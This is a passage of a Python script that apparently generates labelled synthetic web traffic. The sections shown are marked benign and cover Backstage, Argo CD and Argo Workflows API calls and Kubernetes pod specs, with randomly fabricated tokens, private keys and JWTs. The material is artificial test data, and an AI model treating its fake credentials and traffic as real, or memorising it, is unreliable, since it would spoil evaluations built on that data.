        return kind, {"containers": [{"name": "fluent-bit", "image": "cr.fluentbit.io/fluent/fluent-bit:3.0.3",
            "volumeMounts": [{"name": "varlog", "mountPath": "/var/log"},
                             {"name": "containers", "mountPath": "/var/lib/docker/containers", "readOnly": True},
                             {"name": "etc-machine-id", "mountPath": "/etc/machine-id", "readOnly": True},
                             {"name": "config", "mountPath": "/fluent-bit/etc/"}]}],
            "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}},
                        {"name": "containers", "hostPath": {"path": "/var/lib/docker/containers"}},
                        {"name": "etc-machine-id", "hostPath": {"path": "/etc/machine-id", "type": "File"}},
                        {"name": "config", "configMap": {"name": "fluent-bit"}}]}
    if kind == "dind":
        return kind, {"containers": [{"name": "runner", "image": "gitlab/gitlab-runner:v16.11.0",
            "command": ["/bin/bash", "-c", "gitlab-runner register --non-interactive --url https://gitlab.acme.io/ --token \"$RUNNER_TOKEN\" --executor docker && exec gitlab-runner run"],
            "securityContext": {"privileged": True},
            "volumeMounts": [{"name": "docker-sock", "mountPath": "/var/run/docker.sock"},
                             {"name": "certs", "mountPath": "/etc/ssl/certs", "readOnly": True}]}],
            "volumes": [{"name": "docker-sock", "hostPath": {"path": "/var/run/docker.sock", "type": "Socket"}},
                        {"name": "certs", "hostPath": {"path": "/etc/ssl/certs"}}]}
    if kind == "falco":
        mounts = [("/host/proc", "/proc"), ("/host/boot", "/boot"), ("/host/lib/modules", "/lib/modules"),
                  ("/host/usr", "/usr"), ("/host/etc", "/etc"), ("/host/var/run/containerd/containerd.sock", "/run/containerd/containerd.sock")]
        return kind, {"hostPID": True, "containers": [{"name": "falco", "image": "docker.io/falcosecurity/falco-no-driver:0.37.1",
            "args": ["/usr/bin/falco", "--cri", "/run/containerd/containerd.sock", "-K", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                     "-k", "https://$(KUBERNETES_SERVICE_HOST)", "-pk"],
            "securityContext": {"privileged": True},
            "volumeMounts": [{"name": "m%d" % i, "mountPath": m, "readOnly": True} for i, (m, _) in enumerate(mounts)]}],
            "volumes": [{"name": "m%d" % i, "hostPath": {"path": p}} for i, (_, p) in enumerate(mounts)]}
    if kind == "cadvisor":
        return kind, {"containers": [{"name": "cadvisor", "image": "gcr.io/cadvisor/cadvisor:v0.49.1",
            "args": ["--housekeeping_interval=10s", "--docker_only=true", "--disable_metrics=percpu,sched,tcp,udp,disk,diskIO,hugetlb,referenced_memory"],
            "volumeMounts": [{"name": "rootfs", "mountPath": "/rootfs", "readOnly": True}, {"name": "var-run", "mountPath": "/var/run", "readOnly": True},
                             {"name": "sys", "mountPath": "/sys", "readOnly": True}, {"name": "docker", "mountPath": "/var/lib/docker", "readOnly": True},
                             {"name": "disk", "mountPath": "/dev/disk", "readOnly": True}]}],
            "volumes": [{"name": n, "hostPath": {"path": p}} for n, p in [("rootfs", "/"), ("var-run", "/var/run"), ("sys", "/sys"), ("docker", "/var/lib/docker"), ("disk", "/dev/disk")]]}
    if kind == "csi":
        return kind, {"containers": [{"name": "ebs-plugin", "image": "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.30.0",
            "args": ["node", "--endpoint=$(CSI_ENDPOINT)", "--logging-format=text", "--v=2"],
            "env": [{"name": "CSI_ENDPOINT", "value": "unix:/csi/csi.sock"}],
            "securityContext": {"privileged": True},
            "volumeMounts": [{"name": "kubelet-dir", "mountPath": "/var/lib/kubelet", "mountPropagation": "Bidirectional"},
                             {"name": "plugin-dir", "mountPath": "/csi"}, {"name": "device-dir", "mountPath": "/dev"}]}],
            "volumes": [{"name": "kubelet-dir", "hostPath": {"path": "/var/lib/kubelet", "type": "Directory"}},
                        {"name": "plugin-dir", "hostPath": {"path": "/var/lib/kubelet/plugins/ebs.csi.aws.com/", "type": "DirectoryOrCreate"}},
                        {"name": "device-dir", "hostPath": {"path": "/dev", "type": "Directory"}}]}
    # istio-injected application pod
    app = pick(APPS)
    return kind, {"initContainers": [{"name": "istio-init", "image": "docker.io/istio/proxyv2:1.21.2",
        "args": ["istio-iptables", "-p", "15001", "-z", "15006", "-u", "1337", "-m", "REDIRECT", "-i", "*", "-x", "", "-b", "*", "-d", "15090,15021,15020", "--log_output_level=default:info"],
        "securityContext": {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"], "drop": ["ALL"]}, "runAsUser": 0}}],
        "containers": [app_container(ns, app), {"name": "istio-proxy", "image": "docker.io/istio/proxyv2:1.21.2",
            "args": ["proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local", "--proxyLogLevel=warning", "--proxyComponentLogLevel=misc:error", "--log_output_level=default:info"],
            "env": [{"name": "ISTIO_META_APP_CONTAINERS", "value": app},
                    {"name": "PROXY_CONFIG", "value": "{\"discoveryAddress\":\"istiod.istio-system.svc:15012\",\"holdApplicationUntilProxyStarts\":true}\n"},
                    {"name": "ISTIO_META_POD_PORTS", "value": "[\n    {\"name\":\"http\",\"containerPort\":8080,\"protocol\":\"TCP\"}\n]"}],
            "volumeMounts": [{"name": "istio-envoy", "mountPath": "/etc/istio/proxy"}, {"name": "istio-token", "mountPath": "/var/run/secrets/tokens"},
                             {"name": "istiod-ca-cert", "mountPath": "/var/run/secrets/istio"}]}]}


def pod_object(ns, with_special=None):
    app = pick(APPS)
    name = "%s-%s-%s" % (app, rhex(10)[:9], rstr(5, LOWER_ALNUM))
    annotations = {}
    if with_special is None:
        with_special = chance(0.35)
    if with_special:
        kind, spec = special_pod_spec(ns)
        if kind != "istio":
            name = "%s-%s-%s" % (kind, rhex(10)[:9], rstr(5, LOWER_ALNUM))
        labels = {"app.kubernetes.io/name": kind, "app.kubernetes.io/part-of": "platform"}
    else:
        kind = "app"
        spec = {"serviceAccountName": app, "containers": [app_container(ns, app)]}
        if chance(0.7):
            spec["initContainers"] = [init_wait_for_db(ns)]
            if chance(0.4):
                spec["initContainers"].append(migrate_container())
        labels = {"app.kubernetes.io/name": app, "app.kubernetes.io/instance": app + "-" + pick(["blue", "green", "canary", "main"]),
                  "pod-template-hash": rhex(10)[:9]}
        if chance(0.45):
            role = app + "-ro"
            annotations.update({
                "vault.hashicorp.com/agent-inject": "true",
                "vault.hashicorp.com/role": app,
                "vault.hashicorp.com/agent-inject-secret-db": "database/creds/" + role,
                "vault.hashicorp.com/agent-inject-template-db": "{{- with secret \"database/creds/%s\" -}}\npostgresql://{{ .Data.username }}:{{ .Data.password }}@%s-pg-rw.%s.svc:5432/app?sslmode=require\n{{- end }}\n" % (role, app, ns),
            })
        if chance(0.3):
            annotations["prometheus.io/scrape"] = "true"
            annotations["prometheus.io/path"] = "/actuator/prometheus"
            annotations["prometheus.io/port"] = "8081"
        if chance(0.25):
            annotations["kubectl.kubernetes.io/default-container"] = app
    spec.setdefault("restartPolicy", "Always")
    spec.setdefault("dnsPolicy", "ClusterFirst")
    spec.setdefault("terminationGracePeriodSeconds", 30)
    obj = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"generateName": name.rsplit("-", 1)[0] + "-", "namespace": ns, "labels": labels,
                        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": name.rsplit("-", 1)[0],
                                             "uid": ruuid(), "controller": True, "blockOwnerDeletion": True}]},
           "spec": spec, "status": {}}
    if annotations:
        obj["metadata"]["annotations"] = annotations
    return kind, obj


# ===========================================================================
# BENIGN: Backstage
# ===========================================================================

def backstage_cookie():
    return pick([None, "backstage-auth=%s" % rstr(40), "connect.sid=s%%3A%s.%s" % (rstr(32), rstr(43))])


def bs_headers(accept="application/json", extra=()):
    if chance(0.7):
        h = browser_headers(accept=accept, cookie=backstage_cookie(), extra=extra)
        h.append(("Authorization", bearer(jwt({"sub": "user:default/" + pick(USERS), "ent": ["group:default/" + pick(TEAMS)],
                                               "aud": "backstage", "iat": 1714500000 + R.randint(0, 99999), "exp": 1714600000}, alg="ES256"))))
        return h
    return std_headers(pick(UA_PY + ["node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "backstage-cli/0.26.4"]),
                       auth=bearer(jwt({"sub": "plugin:catalog", "aud": "backstage"}, alg="ES256")), accept=accept, extra=extra)


def entity(kind="Component"):
    app = pick(APPS)
    team = pick(TEAMS)
    ns = pick(NAMESPACES)
    desc = pick([
        "Handles cart state and pricing lookups for the web shop. Talks to `orders` over gRPC and caches in Redis.",
        "Ledger service — double-entry bookkeeping; **do not** call from batch jobs without a rate limit.",
        "Consumes `order.created` events and renders PDF invoices (wkhtmltopdf, see runbook).",
        "Search indexer: reads CDC from Postgres (`wal2json`) and writes to OpenSearch.",
        "Frontend BFF. Owns /api/checkout/* routes; <b>legacy</b> endpoints are behind a feature flag.",
        "Fraud scoring model server (Triton). Latency SLO p99 < 80ms.",
    ])
    e = {"apiVersion": "backstage.io/v1alpha1", "kind": kind,
         "metadata": {"name": app, "namespace": "default", "title": app.replace("-", " ").title(), "description": desc,
                      "tags": R.sample(["java", "go", "python", "grpc", "postgres", "kafka", "redis", "tier-1", "pci"], 3),
                      "annotations": {"backstage.io/techdocs-ref": pick(["dir:.", "url:https://github.com/acme/%s/tree/main/docs" % app]),
                                      "github.com/project-slug": "acme/" + app,
                                      "argocd/app-selector": "app.kubernetes.io/instance=" + app,
                                      "backstage.io/kubernetes-label-selector": "app.kubernetes.io/name=%s,app.kubernetes.io/part-of in (shop)" % app,
                                      "prometheus.io/rule": 'sum by (code) (rate(http_requests_total{service="%s"}[5m]))' % app,
                                      "grafana/dashboard-selector": "tags @> '%s' && title contains 'SLO'" % app,
                                      "vault.io/secrets-path": "secret/data/%s/%s" % (ns, app),
                                      "pagerduty.com/integration-key": rhex(32)},
                      "links": [{"url": "https://grafana.acme.io/d/%s/%s?var-namespace=%s" % (rstr(9), app, ns), "title": "Dashboard", "icon": "dashboard"},
                                {"url": "https://backstage.acme.io/docs/default/component/%s/runbooks/" % app, "title": "Runbook"}]},
         "spec": {"type": pick(["service", "website", "library"]), "lifecycle": pick(["production", "experimental", "deprecated"]),
                  "owner": "group:default/" + team, "system": pick(["shop", "payments-platform", "identity"]),
                  "providesApis": [app + "-api"], "dependsOn": ["resource:default/%s-db" % app]}}
    return e


def gen_backstage(n):
    for i in range(n):
        host = host_for("backstage")
        kind = i % 11
        if kind == 0:
            params = [("filter", "kind=component,spec.type=service"), ("filter", "kind=api,metadata.annotations.backstage.io/techdocs-ref"),
                      ("fields", "metadata.name,metadata.namespace,metadata.title,spec.owner,relations"),
                      ("limit", "20"), ("orderField", "metadata.name,asc")]
            if chance(0.5):
                params.append(("fullTextFilterTerm", pick(["cart", "ledger svc", "pay*", "o'brien"])))
                params.append(("fullTextFilterFields", "metadata.name,metadata.title,spec.profile.displayName"))
            B("backstage-catalog", "GET", "/api/catalog/entities/by-query?" + qs(params), host, bs_headers())
        elif kind == 1:
            e = entity()
            B("backstage-catalog", "GET", "/api/catalog/entities/by-name/component/default/" + e["metadata"]["name"], host, bs_headers())
        elif kind == 2:
            body = dumps({"type": "url", "target": pick(["https://github.com/acme/%s/blob/main/catalog-info.yaml",
                                                          "https://gitlab.acme.io/platform/%s/-/blob/main/catalog-info.yaml",
                                                          "https://dev.azure.com/acme/platform/_git/%s?path=/catalog-info.yaml"]) % pick(APPS)})
            B("backstage-catalog", "POST", "/api/catalog/locations" + pick(["", "?dryRun=true"]), host, bs_headers(), body, "application/json")
        elif kind == 3:
            e = entity(pick(["Component", "API", "Resource"]))
            if e["kind"] == "API":
                e["spec"] = {"type": "openapi", "lifecycle": "production", "owner": "group:default/" + pick(TEAMS),
                             "definition": "openapi: 3.0.3\ninfo:\n  title: %s\n  version: 1.4.2\npaths:\n  /api/v1/orders/{id}:\n    get:\n      parameters:\n        - name: id\n          in: path\n          required: true\n          schema: {type: string, pattern: '^[0-9a-f-]{36}$'}\n      responses:\n        '200': {description: ok}\n" % e["metadata"]["name"]}
            body = dumps({"entity": e, "location": "url:https://github.com/acme/%s/blob/main/catalog-info.yaml" % e["metadata"]["name"]})
            B("backstage-catalog", "POST", "/api/catalog/validate-entity", host, bs_headers(), body, "application/json")
        elif kind == 4:
            params = [("term", pick(["postgres connection pool", "how to rotate vault token", "kubectl rollout restart",
                                     "\"connection refused\" redis", "SELECT orders by tenant", "exec /bin/sh: no such file or directory",
                                     "argo sync failed ComparisonError", "grafana alert 5xx", "helm values override", "OOMKilled java",
                                     "cert-manager acme http01", "keycloak ldap sync", "ingress nginx 413 request entity too large",
                                     "rm -rf node_modules", "<none>", "$__timeFilter macro", "jsonpath {.items[*].metadata.name}"]))]
            if chance(0.6):
                params.append(("types[0]", pick(["techdocs", "software-catalog", "stack-overflow"])))
            if chance(0.4):
                params.append(("filters[kind]", pick(["Component", "API", "Group"])))
                params.append(("filters[lifecycle][0]", "production"))
            if chance(0.3):
                params.append(("pageCursor", b64("page=%d" % R.randint(1, 4))))
            B("backstage-search", "GET", "/api/search/query?" + qs(params), host, bs_headers())
        elif kind == 5:
            app = pick(APPS)
            page = pick(["index.html", "runbooks/oncall/index.html", "architecture/index.html", "adr/0007-use-postgres-advisory-locks/index.html",
                         "assets/stylesheets/main.26e3688c.min.css", "assets/javascripts/bundle.ad660dcc.min.js",
                         "search/search_index.json", "images/c4-context.png", "sitemap.xml.gz", "how-to/debug-with-kubectl-exec/index.html"])
            B("backstage-techdocs", "GET", "/api/techdocs/static/docs/default/component/%s/%s" % (app, page), host,
              bs_headers(accept=pick(["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "*/*", "text/css,*/*;q=0.1"])))
        elif kind == 6:
            app = pick(APPS)
            if chance(0.5):
                B("backstage-techdocs", "GET", "/api/techdocs/sync/default/component/" + app, host, bs_headers(accept="text/event-stream"))
            else:
                B("backstage-techdocs", "GET", "/api/techdocs/metadata/%s/default/component/%s" % (pick(["techdocs", "entity"]), app), host, bs_headers())
        elif kind == 7:
            app = "svc-" + rstr(6, LOWER_ALNUM)
            values = {"name": app, "owner": "group:default/" + pick(TEAMS), "description": pick(["Order export job", "Price feed adapter — reads EUR/USD from ECB", "Tenant onboarding API"]),
                      "repoUrl": "github.com?repo=%s&owner=acme" % app, "javaPackageName": "io.acme." + app.replace("-", ""),
                      "database": pick(["postgres", "none", "mysql"]), "namespace": pick(NAMESPACES),
                      "httpPort": R.choice([8080, 3000, 9000]), "enableVault": chance(0.5)}
            body = dumps({"templateRef": "template:default/" + pick(["springboot-grpc-service", "go-http-service", "python-fastapi", "argo-workflow-cronjob"]),
                          "values": values, "secrets": {"backstageToken": rstr(40)}})
            B("backstage-scaffolder", "POST", "/api/scaffolder/v2/tasks", host, bs_headers(), body, "application/json")
        elif kind == 8:
            tpl_yaml = """apiVersion: scaffolder.backstage.io/v1beta3
kind: Template
metadata:
  name: go-http-service
  title: Go HTTP service
spec:
  owner: group:default/platform
  type: service
  parameters:
    - title: Service
      required: [name, owner]
      properties:
        name:
          type: string
          pattern: '^[a-z0-9-]{3,40}$'
        owner:
          type: string
          ui:field: OwnerPicker
  steps:
    - id: fetch
      name: Fetch skeleton
      action: fetch:template
      input:
        url: ./skeleton
        values:
          name: ${{ parameters.name }}
          owner: ${{ parameters.owner }}
          destination: ${{ parameters.repoUrl | parseRepoUrl }}
          image: harbor.acme.io/${{ parameters.owner | replace('group:default/', '') }}/${{ parameters.name }}
    - id: publish
      action: publish:github
      input:
        repoUrl: ${{ parameters.repoUrl }}
        defaultBranch: main
    - id: register
      action: catalog:register
      input:
        repoContentsUrl: ${{ steps['publish'].output.repoContentsUrl }}
        catalogInfoPath: '/catalog-info.yaml'
  output:
    links:
      - title: Repository
        url: ${{ steps['publish'].output.remoteUrl }}
"""
            skeleton = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: ${{ values.name }}\n  annotations:\n    github.com/project-slug: ${{ values.destination.owner + \"/\" + values.destination.repo }}\n{%- if values.enableVault %}\n    vault.io/secrets-path: secret/data/${{ values.name }}\n{%- endif %}\nspec:\n  type: service\n  owner: ${{ values.owner }}\n"
            body = dumps({"template": tpl_yaml, "values": {"name": "demo-" + rstr(4, LOWER_ALNUM), "owner": "group:default/" + pick(TEAMS), "repoUrl": "github.com?owner=acme&repo=demo"},
                          "secrets": {}, "directoryContents": [{"path": "skeleton/catalog-info.yaml", "base64Content": b64(skeleton)},
                                                               {"path": "skeleton/Makefile", "base64Content": b64("build:\n\tgo build -o bin/$(NAME) ./cmd/$(NAME)\n\ntest:\n\tgo test ./... -race -count=1\n")}]})
            B("backstage-scaffolder", "POST", "/api/scaffolder/v2/dry-run", host, bs_headers(), body, "application/json")
        elif kind == 9:
            app = pick(APPS)
            target = pick([
                "/api/proxy/pagerduty/incidents?" + qs([("statuses[]", "triggered"), ("statuses[]", "acknowledged"), ("service_ids[]", "P" + rstr(6, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"))]),
                "/api/proxy/sonarqube/api/measures/component?" + qs([("component", "acme_" + app), ("metricKeys", "alert_status,bugs,reliability_rating,vulnerabilities,coverage")]),
                "/api/proxy/argocd/api/v1/applications?" + qs([("selector", "backstage-name=" + app)]),
                "/api/proxy/grafana/api/search?" + qs([("query", app), ("type", "dash-db")]),
                "/api/proxy/opencost/allocation/compute?" + qs([("window", "7d"), ("aggregate", "namespace"), ("filter", 'label[app]:"%s"' % app)]),
            ])
            B("backstage-proxy", "GET", target, host, bs_headers())
        else:
            app = pick(APPS)
            ns = pick(NAMESPACES)
            if chance(0.5):
                body = dumps({"entity": entity()}, "compact")
                B("backstage-kubernetes", "POST", "/api/kubernetes/services/" + app, host, bs_headers(), body, "application/json")
            else:
                path = "/api/kubernetes/proxy/api/v1/namespaces/%s/pods?%s" % (ns, qs([("labelSelector", "app.kubernetes.io/name=%s" % app)]))
                B("backstage-kubernetes", "GET", path, host, bs_headers(extra=[("Backstage-Kubernetes-Cluster", pick(CLUSTERS))]))


# ===========================================================================
# BENIGN: Argo CD
# ===========================================================================

def argocd_headers(accept="application/json"):
    tok = jwt({"iss": "argocd", "sub": pick(USERS) + ":login", "nbf": 1714500000, "iat": 1714500000, "jti": ruuid()}, alg="HS256")
    if chance(0.55):
        return browser_headers(accept=accept, cookie="argocd.token=" + tok)
    return std_headers(pick(UA_ARGOCD), auth="Bearer " + tok, accept=accept)


def argo_app(name=None, ns=None):
    name = name or pick(APPS)
    ns = ns or pick(NAMESPACES)
    src_kind = pick(["helm", "helm", "kustomize", "plain", "oci"])
    if src_kind == "helm":
        values = "replicaCount: %d\nimage:\n  repository: harbor.acme.io/%s/%s\n  tag: \"{{ .Chart.AppVersion }}\"\nenv:\n  - name: DB_URL\n    value: postgres://%s@%s-pg-rw.%s.svc.cluster.local:5432/%s\ningress:\n  enabled: true\n  annotations:\n    nginx.ingress.kubernetes.io/rewrite-target: /$2\n  hosts:\n    - host: %s.acme.io\n      paths: [\"/api(/|$)(.*)\"]\npodAnnotations:\n  checksum/config: '{{ include (print $.Template.BasePath \"/configmap.yaml\") . | sha256sum }}'\n" % (
            R.randint(2, 6), pick(TEAMS), name, name.replace("-", "_"), name, ns, name.replace("-", "_"), name)
        source = {"repoURL": pick(["https://github.com/acme/deploy.git", "git@github.com:acme/platform-apps.git", "https://charts.acme.io"]),
                  "path": "charts/" + name, "targetRevision": pick(["HEAD", "main", "v1.4.2", "release-2024.05"]),
                  "helm": {"valueFiles": pick([["values.yaml", "values-%s.yaml" % pick(CLUSTERS)], ["$values/envs/prod/%s.yaml" % name]]),
                           "parameters": [{"name": "image.tag", "value": pick(["1.4.2", "sha-" + rhex(7)])},
                                          {"name": "resources.limits.memory", "value": "512Mi"}],
                           "values": values, "releaseName": name}}
    elif src_kind == "kustomize":
        source = {"repoURL": "https://gitlab.acme.io/platform/gitops.git", "path": "overlays/%s/%s" % (pick(CLUSTERS), name),
                  "targetRevision": "main", "kustomize": {"images": ["harbor.acme.io/%s/%s:%s" % (pick(TEAMS), name, "1.4." + str(R.randint(0, 9)))],
                                                          "commonLabels": {"app.kubernetes.io/managed-by": "argocd"},
                                                          "patches": [{"target": {"kind": "Deployment", "name": name},
                                                                       "patch": "- op: replace\n  path: /spec/replicas\n  value: 3\n"}]}}
    elif src_kind == "oci":
        source = {"repoURL": "registry.example.com/charts", "chart": name, "targetRevision": "1.%d.x" % R.randint(0, 9)}
    else:
        source = {"repoURL": "https://github.com/acme/k8s-manifests.git", "path": "apps/%s/base" % name, "targetRevision": "HEAD",
                  "directory": {"recurse": True, "exclude": "{*.md,tests/*}", "include": "*.yaml"}}
    app = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
           "metadata": {"name": name + "-" + pick(CLUSTERS), "namespace": "argocd",
                        "labels": {"team": pick(TEAMS)}, "finalizers": ["resources-finalizer.argocd.argoproj.io"],
                        "annotations": {"notifications.argoproj.io/subscribe.on-sync-failed.slack": "#deploys-" + ns,
                                        "link.argocd.argoproj.io/external-link": "https://grafana.acme.io/d/k8s-app/%s?var-namespace=%s" % (name, ns)}},
           "spec": {"project": pick(TEAMS), "source": source,
                    "destination": {"server": pick(["https://kubernetes.default.svc", "https://api.%s.k8s.acme.io:6443" % pick(CLUSTERS)]), "namespace": ns},
                    "syncPolicy": {"automated": {"prune": True, "selfHeal": True}, "syncOptions": ["CreateNamespace=true", "ServerSideApply=true", "RespectIgnoreDifferences=true"],
                                   "retry": {"limit": 5, "backoff": {"duration": "5s", "factor": 2, "maxDuration": "3m"}}},
                    "ignoreDifferences": [{"group": "apps", "kind": "Deployment", "jqPathExpressions": [".spec.template.spec.containers[] | select(.name == \"istio-proxy\")"]},
                                          {"kind": "Secret", "jsonPointers": ["/data/ca.crt"]}]}}
    return app


def gen_argocd(n):
    for i in range(n):
        host = host_for("argocd")
        kind = i % 10
        app = pick(APPS)
        name = app + "-" + pick(CLUSTERS)
        if kind in (0, 1):
            body = dumps(argo_app(app))
            B("argocd-app", "POST", "/api/v1/applications" + pick(["", "?upsert=true", "?validate=true"]), host, argocd_headers(), body, "application/json")
        elif kind == 2:
            params = [("projects", pick(TEAMS)), ("selector", pick(["team=%s" % pick(TEAMS), "app.kubernetes.io/part-of in (shop,payments)", "!argocd.argoproj.io/skip"])),
                      ("fields", "items.metadata.name,items.spec.destination,items.status.sync.status,items.status.health")]
            path = pick(["/api/v1/applications?", "/api/v1/stream/applications?"]) + qs(params)
            B("argocd-app", "GET", path, host, argocd_headers())
        elif kind == 3:
            path = pick([
                "/api/v1/applications/%s/resource-tree?appNamespace=argocd" % name,
                "/api/v1/applications/%s/managed-resources?%s" % (name, qs([("group", "apps"), ("kind", "Deployment"), ("namespace", pick(NAMESPACES))])),
                "/api/v1/applications/%s/resource?%s" % (name, qs([("name", app + "-" + rhex(9)), ("appNamespace", "argocd"), ("namespace", pick(NAMESPACES)), ("resourceName", app), ("version", "v1"), ("kind", "Deployment"), ("group", "apps")])),
                "/api/v1/applications/%s/logs?%s" % (name, qs([("container", "main"), ("namespace", pick(NAMESPACES)), ("podName", "%s-%s-%s" % (app, rhex(9), rstr(5, LOWER_ALNUM))), ("tailLines", "1000"), ("follow", "true"), ("sinceSeconds", "0"), ("filter", pick(["ERROR", "level=error", "exception", "timeout"])), ("previous", "false")])),
                "/api/v1/applications/%s/revisions/%s/metadata" % (name, rhex(40)),
            ])
            B("argocd-app", "GET", path, host, argocd_headers())
        elif kind == 4:
            body = dumps({"revision": pick(["HEAD", "main", rhex(40)]), "prune": chance(0.5), "dryRun": False,
                          "strategy": {pick(["hook", "apply"]): {"force": False}},
                          "resources": pick([None, [{"group": "apps", "kind": "Deployment", "name": app, "namespace": pick(NAMESPACES)}]]),
                          "syncOptions": {"items": ["ServerSideApply=true", "Validate=false"]}, "appNamespace": "argocd"})
            B("argocd-sync", "POST", "/api/v1/applications/%s/sync" % name, host, argocd_headers(), body, "application/json")
        elif kind == 5:
            if chance(0.5):
                patch = json.dumps({"spec": {"source": {"helm": {"parameters": [{"name": "image.tag", "value": "1.4.%d" % R.randint(3, 9)}]}}}})
                body = dumps({"name": name, "patch": patch, "patchType": "merge", "appNamespace": "argocd"})
                B("argocd-app", "PATCH", "/api/v1/applications/" + name, host, argocd_headers(), body, "application/json")
            else:
                uri = "/api/v1/applications/%s/resource/actions?%s" % (name, qs([("namespace", pick(NAMESPACES)), ("resourceName", app), ("version", "v1"), ("kind", "Deployment"), ("group", "apps"), ("appNamespace", "argocd")]))
                B("argocd-sync", "POST", uri, host, argocd_headers(), json.dumps(pick(["restart", "pause", "resume"])), "application/json")
        elif kind == 6:
            choice = R.randint(0, 3)
            if choice == 0:
                body = dumps({"repo": "https://github.com/acme/%s-deploy.git" % app, "username": "git", "password": "ghp_" + rstr(36), "type": "git", "project": pick(TEAMS), "name": app + "-deploy"})
            elif choice == 1:
                key = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(rstr(70, ALNUM + "+/") for _ in range(6)) + "\n-----END OPENSSH PRIVATE KEY-----\n"
                body = dumps({"repo": "git@github.com:acme/infra-%s.git" % pick(CLUSTERS), "sshPrivateKey": key, "insecure": False, "type": "git"})
            elif choice == 2:
                body = dumps({"repo": "registry.example.com/charts", "type": "helm", "enableOCI": True, "name": "acme-oci", "username": "robot$argocd", "password": rstr(32)})
            else:
                body = dumps({"repo": "https://gitea.platform.svc.cluster.local:3000/platform/bootstrap.git", "type": "git",
                              "tlsClientCertData": "-----BEGIN CERTIFICATE-----\n" + b64(rbytes(180)) + "\n-----END CERTIFICATE-----", "insecureIgnoreHostKey": False,
                              "proxy": "http://egress-proxy.platform.svc:3128", "noProxy": ".svc,.cluster.local,10.0.0.0/8"})
            B("argocd-repo", "POST", "/api/v1/repositories" + pick(["", "?upsert=true", "?credsOnly=false"]), host, argocd_headers(), body, "application/json")
        elif kind == 7:
            if chance(0.5):
                pem = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(b64(rbytes(48)) for _ in range(8)) + "\n-----END RSA PRIVATE KEY-----\n"
                body = dumps({"url": "https://github.com/acme", "githubAppID": R.randint(100000, 999999), "githubAppInstallationID": R.randint(10000000, 99999999), "githubAppPrivateKey": pem, "type": "git"})
                B("argocd-repo", "POST", "/api/v1/repocreds", host, argocd_headers(), body, "application/json")
            else:
                B("argocd-repo", "GET", "/api/v1/repositories/%s/apps?%s" % (enc("https://github.com/acme/deploy.git"), qs([("revision", "HEAD"), ("appName", name), ("appProject", pick(TEAMS))])), host, argocd_headers())
        elif kind == 8:
            go_tmpl = chance(0.5)
            if go_tmpl:
                tmpl_name = "{{.path.basename}}-{{.cluster.name | normalize}}"
                tmpl = {"metadata": {"name": tmpl_name, "labels": {"team": "{{ index .path.segments 1 }}"}},
                        "spec": {"project": "{{ index .path.segments 1 }}", "source": {"repoURL": "https://github.com/acme/platform-apps.git", "targetRevision": "HEAD", "path": "{{.path.path}}",
                                 "helm": {"valueFiles": ["values-{{.cluster.name}}.yaml"]}},
                                 "destination": {"server": "{{.server}}", "namespace": "{{.path.basename}}"}}}
                gens = [{"matrix": {"generators": [{"git": {"repoURL": "https://github.com/acme/platform-apps.git", "revision": "HEAD", "directories": [{"path": "apps/*/*"}, {"path": "apps/experimental/*", "exclude": True}]}},
                                                   {"clusters": {"selector": {"matchLabels": {"env": "prod"}}}}]}}]
                body_obj = {"metadata": {"name": "platform-apps", "namespace": "argocd"}, "spec": {"goTemplate": True, "goTemplateOptions": ["missingkey=error"], "generators": gens, "template": tmpl,
                            "templatePatch": "{{- if .autoSync }}\nspec:\n  syncPolicy:\n    automated:\n      prune: {{ .prune }}\n{{- end }}\n"}}
            else:
                body_obj = {"metadata": {"name": "guestbook-" + pick(CLUSTERS), "namespace": "argocd"},
                            "spec": {"generators": [{"list": {"elements": [{"cluster": c, "url": "https://api.%s.k8s.acme.io:6443" % c} for c in R.sample(CLUSTERS, 3)]}}],
                                     "template": {"metadata": {"name": "'{{cluster}}-guestbook'"}, "spec": {"project": "default", "source": {"repoURL": "https://github.com/acme/apps.git", "targetRevision": "HEAD", "path": "guestbook/{{cluster}}"},
                                                  "destination": {"server": "'{{url}}'", "namespace": "guestbook"}}}}}
            B("argocd-appset", "POST", "/api/v1/applicationsets" + pick(["", "?upsert=true", "?dryRun=true"]), host, argocd_headers(), dumps(body_obj), "application/json")
        else:
            if chance(0.5):
                body = dumps({"username": pick(USERS), "password": rstr(14, ALNUM + "!@#%^&*")})
                B("argocd-session", "POST", "/api/v1/session", host, std_headers(pick(UA_ARGOCD), accept="application/json"), body, "application/json")
            else:
                B("argocd-app", "GET", "/api/v1/applications/%s/manifests?%s" % (name, qs([("revision", rhex(40)), ("appNamespace", "argocd")])), host, argocd_headers())


# ===========================================================================
# BENIGN: Argo Workflows
# ===========================================================================

def wf_headers(accept="application/json"):
    if chance(0.5):
        return browser_headers(accept=accept if accept != "application/json" else "application/json, text/plain, */*", cookie="authorization=Bearer " + sa_token("argo", "argo-ui"))
    return std_headers(pick(["argo/v3.5.6 argo-cli", "Go-http-client/1.1", "python-requests/2.31.0 hera/5.14.1"]), auth=bearer(sa_token("argo", pick(["argo-cli", "hera-submitter", "ci"]))), accept=accept)


def gen_workflows(n):
    for i in range(n):
        host = host_for("workflows")
        ns = pick(["argo", "data-eng", "ml-serving", "ci"])
        kind = i % 7
        if kind == 0:
            script = pick([
                ("python:3.12-slim", ["python"], "import json, os, sys\nrows = int(\"{{inputs.parameters.rows}}\")\nprint(json.dumps({\"date\": \"{{workflow.parameters.date}}\", \"rows\": rows}))\nif rows == 0:\n    sys.exit(1)\n"),
                ("bitnami/kubectl:1.29", ["bash"], "set -euo pipefail\nkubectl -n {{inputs.parameters.namespace}} get pods -o jsonpath='{range .items[*]}{.metadata.name}{\"\\t\"}{.status.phase}{\"\\n\"}{end}' | grep -v Running || true\n"),
